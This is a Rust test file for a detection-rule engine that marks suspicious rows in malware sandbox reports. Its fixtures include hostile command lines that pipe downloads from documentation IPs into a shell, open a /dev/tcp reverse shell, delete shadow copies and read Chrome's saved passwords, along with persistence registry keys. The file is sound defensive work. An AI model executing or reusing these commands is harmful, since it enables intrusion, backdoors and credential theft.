mod checklist;

use super::*;
use crate::report::{Body, Cancel, Index, Report};

pub(super) fn report(json: &str) -> Report {
    let body = Body::in_memory(json.as_bytes().to_vec());
    let index = Index::of(&body);
    Report::new(body, index)
}

/// The rules that mark the first row of a report.
fn marks(json: &str) -> Vec<String> {
    let (rules, problems) = Rules::read(None);
    assert_eq!(problems, Vec::<String>::new());
    let report = report(json);
    let found: Vec<_> =
        rules.of_row(&report, &Marks::default(), 0, 0).into_iter().map(|rule| rule.id.clone()).collect();
    let whole = rules.judge(&report, &Cancel::default()).unwrap();
    let best = whole.rule(0, 0).and_then(|rule| rules.rule(rule)).map(|rule| rule.id.clone());
    let noise = found.first().filter(|_| whole.noise().contains(0, 0)).cloned();
    assert_eq!(best.or(noise).is_some(), !found.is_empty(), "{json}");
    found
}

#[test]
fn shipped_rules_are_sound_many_and_named_once() {
    let (rules, problems) = Rules::read(None);
    assert_eq!(problems, Vec::<String>::new());
    assert!(rules.len() > 100);
    let mut ids: Vec<_> = rules.rules.iter().map(|rule| &rule.id).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), rules.len());
    for rule in &rules.rules {
        assert!(rule.wants.all < 64 && !rule.why.is_empty() && rule.name.len() < 60, "{}", rule.id);
        assert!(rule.attack.iter().all(|id| id.starts_with('T')), "{}", rule.id);
    }
}

/// Rows that tell something, each with the rule that says so.
const TELLING: [(&str, &str); 37] = [
    (
        r#"{"registry_keys_set":[{"key":"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x","value":"y"}]}"#,
        "run-key",
    ),
    (r#"{"command_executions":["vssadmin.exe delete shadows /all /quiet"]}"#, "shadow-copies"),
    (r#"{"command_executions":["C:\\W\\powershell.exe -nop -EncodedCommand UwB0AGEAcgB0AC0A"]}"#, "encoded-powershell"),
    (r#"{"command_executions":["schtasks /create /tn x"]}"#, "schtasks"),
    (r#"{"files_written":["C:\\Users\\a\\Desktop\\HOW_TO_DECRYPT.txt"]}"#, "ransom-note"),
    (
        r#"{"files_opened":["C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"]}"#,
        "browser-passwords",
    ),
    (r#"{"ip_traffic":[{"destination_ip":"192.0.2.1","destination_port":4444}]}"#, "c2-port"),
    (r#"{"ip_traffic":[{"destination_ip":"192.0.2.1","destination_port":8443}]}"#, "shared-port"),
    (
        r#"{"files_written":["C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"]}"#,
        "startup-folder",
    ),
    (
        r#"{"command_executions":["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe /f"]}"#,
        "run-key-command",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\\SYSTEM\\CurrentControlSet\\Services\\x\\Start","value":"2"}]}"#,
        "service-start",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\My Task\\Id","value":"{1}"}]}"#,
        "task-cache",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger","value":"cmd.exe"}]}"#,
        "ifeo",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\a.exe\MonitorProcess","value":"b.exe"}]}"#,
        "silent-exit",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe\GlobalFlag","value":"512"}]}"#,
        "global-flag",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Classes\CLSID\{1}\InprocServer32\\","value":"a.dll"}]}"#,
        "com-hijack",
    ),
    (r#"{"registry_keys_set":[{"key":"HKCU\Environment\UserInitMprLogonScript","value":"a.bat"}]}"#, "logon-script"),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\System\CurrentControlSet\Services\x\Parameters\ServiceDll","value":"a.dll"}]}"#,
        "service-key",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\Software\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell","value":"a.exe"}]}"#,
        "winlogon",
    ),
    (r#"{"ids_alerts":[{"rule_msg":"m","alert_severity":"low"}]}"#, "slight-alert"),
    (r#"{"ids_alerts":[{"rule_msg":"m"}]}"#, "alert"),
    (r#"{"tags":["STARTS_AT_BOOT"]}"#, "boot-tag"),
    (r#"{"tags":["SENDS_SMS"]}"#, "sms-tag"),
    (r#"{"tags":["OFFICE_STARTS_SHELL"]}"#, "office-shell-tag"),
    (r#"{"tags":["ENCODED_POWERSHELL"]}"#, "encoded-tag"),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SYSTEM\CurrentControlSet\Services\x\Start","value":"0x00000001"}]}"#,
        "service-start",
    ),
    (r#"{"registry_keys_set":[{"key":"HKLM\SYSTEM\CurrentControlSet\Services\x\Start","value":"4"}]}"#, "service-off"),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SYSTEM\CurrentControlSet\Services\x\Start","value":"3"}]}"#,
        "service-on-demand",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SYSTEM\CurrentControlSet\Services\x\Start","value":"DWORD (0x00000002)"}]}"#,
        "service-start",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SYSTEM\CurrentControlSet\Services\x\Start","value":"DWORD (0x00000003)"}]}"#,
        "service-on-demand",
    ),
    (
        r#"{"registry_keys_set":[{"key":"HKLM\SYSTEM\CurrentControlSet\Services\x\Start","value":"DWORD (0x00000004)"}]}"#,
        "service-off",
    ),
    (r#"{"registry_keys_deleted":["HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x"]}"#, "start-removed"),
    (r#"{"registry_keys_deleted":["HKLM\SYSTEM\CurrentControlSet\Services\x"]}"#, "start-removed"),
    (
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Microsoft\Office\16.0\Word\Security\VBAWarnings","value":"1"}]}"#,
        "macros-on",
    ),
    (r#"{"tags":["ACCESSIBILITY_SERVICE"]}"#, "accessibility-tag"),
    (r#"{"mitre_attack_techniques":[{"id":"T1","severity":"IMPACT_SEVERITY_HIGH"}]}"#, "severe"),
    (r#"{"modules_loaded":["C:\\Windows\\System32\\KERNEL32.dll"]}"#, "noise-modules"),
];

#[test]
fn telling_rows_are_marked() {
    for (json, rule) in TELLING {
        assert!(marks(json).iter().any(|found| found == rule), "{rule}: {:?}", marks(json));
    }
}

#[test]
fn ordinary_rows_are_not() {
    for json in [
        r#"{"command_executions":["C:\\tools\\mysc.exe create"]}"#,
        r#"{"files_written":["C:\\Users\\a\\Documents\\notes.docx"]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\\Software\\Vendor\\Colour","value":"Run"}]}"#,
        r#"{"dns_lookups":[{"hostname":"example.com"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKLM\\SYSTEM\\CurrentControlSet\\Services\\x\\StartCount","value":"2"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKLM\\SYSTEM\\CurrentControlSet\\Services\\TrustedInstaller\\Start","value":"3"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{1}\\DynamicInfo","value":"x"}]}"#,
        r#"{"ip_traffic":[{"destination_ip":"192.0.2.1","destination_port":44443}]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Microsoft\Office\16.0\Word\Security\VBAWarnings","value":"2"}]}"#,
        r#"{"registry_keys_deleted":["HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters\Interfaces"]}"#,
        r#"{"registry_keys_deleted":["HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer"]}"#,
        // What has the name of a telling key, but is elsewhere, or sets another value.
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Vendor\Image File Execution Options\x\Debugger","value":"y"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe\MitigationOptions","value":"1"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe\DebuggerPath","value":"1"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Vendor\CurrentVersion\Run\x","value":"y"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Vendor\Note","value":"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKLM\SOFTWARE\Classes\CLSID\{1}\InprocServer32\\","value":"a.dll"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Vendor\Winlogon\Shell","value":"y"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Vendor\ImagePathLast","value":"C:\services\x"}]}"#,
        r#"{"registry_keys_set":[{"key":"HKCU\Software\Vendor\SeenAppInit_DLLs","value":"y"}]}"#,
    ] {
        assert_eq!(marks(json), Vec::<String>::new(), "{json}");
    }
}

#[test]
fn a_file_is_judged_by_the_end_of_its_own_path() {
    let best = |path: &str, more: &str| {
        let path = path.replace('\\', "\\\\");
        marks(&format!(r#"{{"files_dropped":[{{"path":"{path}"{more}}}]}}"#)).into_iter().next().unwrap_or_default()
    };
    let by = r#","process_id":"1","process_name":"wscript.exe""#;
    for (path, more, id) in [
        (r"%USERPROFILE%\AppData\Local\Temp\svchost64.exe", by, "nearly-system"),
        (r"%USERPROFILE%\AppData\Local\Temp\setup.exe", "", "temp-program"),
        (r"%TEMP%\a.dll", by, "temp-program"),
        (r"C:\Windows\System32\services64.exe", "", "system-program"),
        (r"C:\Windows\System32\Microsoft\Libs\WR64.sys", "", "driver"),
        (r"D:\tools\new.exe", "", "dropped-program"),
        (r"C:\Users\a\AppData\Roaming\x.dat", r#","type":"PE_DLL""#, "disguised-program"),
        (r"C:\Users\a\AppData\Local\Microsoft\CLR_v4.0\UsageLogs\services64.exe.log", "", "noise-left-behind"),
        (r"%USERPROFILE%\AppData\Local\Temp\__PSScriptPolicyTest_szru5clb.hz1.ps1", "", "noise-left-behind"),
        (r"%USERPROFILE%\AppData\Local\Temp\__PSScriptPolicyTest_uziie1be.o3w.psm1", by, "noise-left-behind"),
        (r"C:\Users\a\AppData\Roaming\Lumen\settings.bin", by, ""),
        (r"C:\Windows\System32\Microsoft\Libs\sihost64.log", "", ""),
        (r"C:\Users\a\stage.js", by, "dropped-script"),
        (r"C:\Users\a\package.json", by, ""),
    ] {
        assert_eq!(best(path, more), id, "{path}");
    }
}

#[test]
fn a_parent_tells_in_the_tree_wherever_its_name_stands() {
    let (rules, _) = Rules::read(None);
    for json in [
        r#"{"processes_tree":[{"name":"WINWORD.EXE","children":[{"name":"C:\\W\\cmd.exe"}]},{"name":"services.exe","children":[{"name":"svchost.exe"}]},{"name":"a.exe","children":[{"name":"svchost.exe"}]}]}"#,
        r#"{"processes_tree":[{"children":[{"name":"C:\\W\\cmd.exe"}],"name":"WINWORD.EXE"},{"children":[{"name":"svchost.exe"}],"name":"services.exe"},{"children":[{"name":"svchost.exe"}],"name":"a.exe"}]}"#,
    ] {
        let found = report(json);
        let marks = rules.judge(&found, &Cancel::default()).unwrap();
        let id = |row| marks.rule(0, row).and_then(|rule| rules.rule(rule)).map(|rule| rule.id.as_str());
        assert_eq!([id(1), id(3), id(5)], [Some("office-child"), None, Some("odd-svchost")]);
        assert_eq!(rules.of_row(&found, &Marks::default(), 0, 1)[0].id, "office-child");
    }
}

#[test]
fn a_mistake_in_the_users_file_is_named_with_its_line_and_the_rest_works() {
    let own = "[[rule]]\nid = \"mine\"\nseverity = \"high\"\nname = \"Ours\"\nwhy = \"x\"\nany = [\"OurMarker\"]\n\n[[rule]]\nid = \"bad\"\nseverity = \"high\"\nname = \"n\"\nwhy = \"w\"\nregex = \"(\"\n";
    let (rules, problems) = Rules::read(Some(("rules.toml", own)));
    assert_eq!(problems.len(), 1);
    assert!(problems[0].starts_with("rules.toml, line 8: the regular expression is wrong"), "{problems:?}");
    let found = report(r#"{"strange":["an ourmarker here"]}"#);
    assert_eq!(rules.of_row(&found, &Marks::default(), 0, 0)[0].id, "mine");
    let (_, problems) = Rules::read(Some(("rules.toml", "x = [\n")));
    assert!(problems[0].contains("line 2") || problems[0].contains("line 1"), "{problems:?}");
    let (_, problems) = Rules::read(Some(("r", "[[rule]]\nid='a'\nseverity='loud'\nname='a'\nwhy='a'\nany=['b']\n")));
    assert!(problems[0].contains("line 1") && problems[0].contains("loud"), "{problems:?}");
}

#[test]
fn what_marks_a_long_row_is_named_beside_it() {
    let (rules, _) =
        Rules::read(Some(("r", "[[rule]]\nid='mine'\nseverity='high'\nname='a'\nwhy='b'\nall=['ourmarker']\n")));
    let found = report(&format!(r#"{{"strange":["{} ourmarker"]}}"#, "x".repeat(20_000)));
    assert!(rules.judge(&found, &Cancel::default()).unwrap().rule(0, 0).is_some());
    assert_eq!(rules.of_row(&found, &Marks::default(), 0, 0)[0].id, "mine");
}

#[test]
fn a_rule_wants_no_more_texts_at_once_than_are_told_apart() {
    let rule = |texts: usize| {
        let all: Vec<String> = (0..texts).map(|n| format!("'t{n:03}'")).collect();
        format!("[[rule]]\nid='mine'\nseverity='high'\nname='a'\nwhy='b'\nall=[{}]\n", all.join(","))
    };
    let text = (0..65).map(|n| format!("t{n:03}")).collect::<String>();
    let (rules, problems) = Rules::read(Some(("r", &rule(64))));
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(rules.of_row(&report(&format!(r#"{{"strange":["{text}"]}}"#)), &Marks::default(), 0, 0)[0].id, "mine");
    let (_, problems) = Rules::read(Some(("r", &rule(65))));
    assert!(problems[0].contains("65 texts") && problems[0].contains("64"), "{problems:?}");
}

#[test]
fn regular_expressions_beyond_the_most_are_named_once_and_cost_nothing() {
    let head = "severity = 'low'\nname = 'n'\nwhy = 'w'";
    let many: String = (0..1_010).map(|n| format!("[[rule]]\nid = 'r{n}'\n{head}\nregex = 'evil{n}$'\n")).collect();
    let own = format!("{many}[[rule]]\nid = 'text'\n{head}\nany = ['told']\n");
    let (rules, problems) = Rules::read(Some(("rules.toml", &own)));
    let told = "rules.toml, line 6001: there are more than 1,000 regular expressions; what any, all or program can say costs \
                nothing more; from here on 10 of them are not used, the others are.";
    assert_eq!(problems, [told]);
    assert_eq!(rules.rules.last().map(|rule| rule.id.as_str()), Some("text"));
}

/// The rule that matters most for the one row of an attribute.
fn best(attribute: &str, row: &str) -> String {
    let row = row.replace('\\', r"\\").replace('"', "\\\"");
    let json = match attribute {
        "registry_keys_set" => format!(r#"{{"{attribute}":[{{"key":"{row}","value":"c:\\x.exe"}}]}}"#),
        "processes_tree" => format!(r#"{{"{attribute}":[{{"name":"{row}","process_id":"7","time_offset":3}}]}}"#),
        "mitre_attack_techniques" => {
            format!(r#"{{"{attribute}":[{{"id":"{row}","severity":"IMPACT_SEVERITY_INFO"}}]}}"#)
        }
        _ => format!(r#"{{"{attribute}":["{row}"]}}"#),
    };
    marks(&json).into_iter().next().unwrap_or_default()
}

#[test]
fn what_starts_by_itself_is_marked_on_every_system() {
    let (file, command, key) = ("files_written", "command_executions", "registry_keys_set");
    for (attribute, row, id) in [
        (file, "/etc/cron.d/x", "unix-start"),
        (file, "/var/spool/cron/crontabs/root", "unix-start"),
        (file, "/etc/systemd/system/x.service", "unix-start"),
        (file, "/home/u/.config/systemd/user/x.service", "unix-start"),
        (file, "/etc/rc.local", "unix-start"),
        (file, "/etc/init.d/x", "unix-start"),
        (file, "/etc/ld.so.preload", "unix-start"),
        (file, "/Library/LaunchDaemons/x.plist", "unix-start"),
        (file, "/Users/u/Library/LaunchAgents/x.plist", "unix-start"),
        (file, "/root/.ssh/authorized_keys", "unix-logon"),
        (file, "/home/u/.bashrc", "unix-logon"),
        (file, "/home/u/.profile", "unix-logon"),
        (file, "/home/u/.bash_profile", "unix-logon"),
        (file, "/etc/profile.d/x.sh", "unix-logon"),
        (file, "/home/u/.config/autostart/x.desktop", "unix-logon"),
        (file, "/home/u/.profile/notes.txt", ""),
        (file, "/etc/hostname", ""),
        (file, r"%APPDATA%\Microsoft\Word\STARTUP\x.dotm", "startup-folder"),
        (command, "crontab /tmp/.c", "start-command"),
        (command, "sh -c \"(crontab -l; echo x) | crontab -\"", "start-command"),
        (command, "crontab -l", ""),
        (command, "systemctl --user enable x.service", "start-command"),
        (command, "systemctl is-enabled x.service", ""),
        (command, "launchctl load /Library/LaunchDaemons/x.plist", "start-command"),
        (command, "curl -s http://203.0.113.9/x | sh", "pipe-to-shell"),
        (command, "wget -qO- http://203.0.113.9/x|sudo /bin/bash", "pipe-to-shell"),
        (command, "curl http://203.0.113.9/x | show", "bare-address"),
        (command, "base64 -d /tmp/x | sh", "pipe-to-shell"),
        (command, "bash -c 'exec 5<>/dev/tcp/203.0.113.8/4444'", "network-shell"),
        (command, "pkill -9 xmrig", ""),
        ("files_dropped", "/dev/shm/.x · ELF", "unix-program"),
        (file, "/etc/udev/rules.d/9.rules", "unix-start"),
        (command, "Register-ScheduledTask -TaskName x", "start-command"),
        (command, r"New-Service -Name x -BinaryPathName c:\x.exe", "start-command"),
        (command, "schtasks.exe /change /tn x /tr y", "start-command"),
        (command, "schtasks /change /tn x /disable", ""),
        (command, r"netsh add helper c:\x.dll", "start-command"),
        (command, r#"copy x "C:\Users\u\Start Menu\Programs\Startup\x.exe""#, "start-command"),
        (command, r"Remove-Item C:\Users\u\Startup\x.exe", ""),
        (key, r"HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\BootExecute", "other-start"),
        (key, r"HKCU\Software\Microsoft\Command Processor\AutoRun", "other-start"),
        (key, r"HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows\Load", "other-start"),
        (key, r"HKCU\Software\Vendor\AutoRun", ""),
        ("mitre_attack_techniques", "T1053.003", "named-persistence"),
        ("mitre_attack_techniques", "T1055", ""),
    ] {
        assert_eq!(best(attribute, row), id, "{row}");
    }
}

#[test]
fn a_system_program_is_noise_in_its_own_folder_alone_and_marked_outside_of_it() {
    for (program, id) in [
        ("conhost.exe", "noise-processes"),
        (r"C:\Windows\System32\conhost.exe 0x4", "noise-processes"),
        (r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "noise-processes"),
        (r"C:\Windows\system32\wbem\WMIADAP.EXE /F /T /R", "noise-processes"),
        (r"%SystemRoot%\System32\audiodg.exe 0x1", "noise-processes"),
        (r"C:\Windows\System32\conhost.exe --headless cmd /c x", ""),
        ("conhost.exe --headless x", ""),
        (r#""C:\ProgramData\conhost.exe" 0x4"#, "svchost-elsewhere"),
        (r"C:\Users\u\Windows\System32\audiodg.exe", ""),
        (r"C:\Users\u\wermgr.exe", ""),
        (r"C:\ProgramData\lsass.exe", "svchost-elsewhere"),
        (r"C:\Users\u\AppData\Roaming\svchost.exe -k netsvcs", "svchost-elsewhere"),
        (r"C:\Windows\Temp\csrss.exe", "svchost-elsewhere"),
        (r"C:\Users\u\AppData\Local\Temp\explorer.exe", "svchost-elsewhere"),
        (r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows", ""),
        (r"C:\Windows\Explorer.EXE", ""),
        ("lsass.exe", ""),
    ] {
        assert_eq!(best("processes_tree", program), id, "{program}");
    }
    assert_eq!(best("processes_created", r"C:\ProgramData\lsass.exe"), "svchost-elsewhere");
}
